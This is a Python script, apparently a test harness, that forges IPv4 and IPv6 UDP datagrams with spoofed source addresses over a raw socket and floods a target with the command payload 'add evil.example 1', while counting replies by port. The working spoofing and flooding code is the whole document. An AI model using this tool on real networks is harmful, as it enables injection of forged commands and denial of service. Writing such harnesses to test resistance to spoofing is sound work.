# A neighbour on the network that forges packets. Usage: flood.py INTERFACE MAC-OF-THE-TARGET
#
# It reads one line after the other: "COUNT SOURCE SOURCE-PORT TARGET PORT" sends so many datagrams and prints "sent"; "heard PORT"
# prints how many datagrams came from that port to this interface so far. It ends with its stdin.
import socket
import struct
import sys

interface, target_mac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
IPV4, IPV6, UDP, OUTGOING, ALL = 0x0800, 0x86DD, 17, 4, 3
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
link.bind((interface, 0))
own_mac = link.getsockname()[4]
COMMAND = b"add evil.example 1"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(source, source_port, target, port):
    length = 8 + len(COMMAND)
    udp = struct.pack("!HHHH", source_port, port, length, 0) + COMMAND
    if ":" not in target:
        addresses = socket.inet_aton(source) + socket.inet_aton(target)
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, UDP, 0) + addresses
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        kind = IPV4
    else:
        addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
        head = struct.pack("!IHBB", 6 << 28, length, UDP, 64) + addresses
        # Of IPv6 the checksum is no choice.
        value = checksum(addresses + struct.pack("!II", length, UDP) + udp) or 0xFFFF
        udp = udp[:6] + struct.pack("!H", value) + udp[8:]
        kind = IPV6
    return target_mac + own_mac + struct.pack("!H", kind) + head + udp


def listen(heard):
    """Counts datagrams by the port that they came from."""
    link.setblocking(False)
    try:
        while True:
            data, address = link.recvfrom(2048)
            packet = data[14:]
            if address[2] == OUTGOING or len(packet) < 28:
                continue
            if address[1] == IPV4 and packet[9] == UDP:
                start = (packet[0] & 15) * 4
            elif address[1] == IPV6 and packet[6] == UDP:
                start = 40
            else:
                continue
            port = struct.unpack("!H", packet[start:start + 2])[0]
            heard[port] = heard.get(port, 0) + 1
    except BlockingIOError:
        pass
    link.setblocking(True)


heard = {}
for line in sys.stdin:
    words = line.split()
    if words[0] == "heard":
        listen(heard)
        print(heard.get(int(words[1]), 0), flush=True)
        continue
    packet = frame(words[1], int(words[2]), words[3], int(words[4]))
    for number in range(int(words[0])):
        link.send(packet)
        if number % 500 == 0:
            listen(heard)
    print("sent", flush=True)
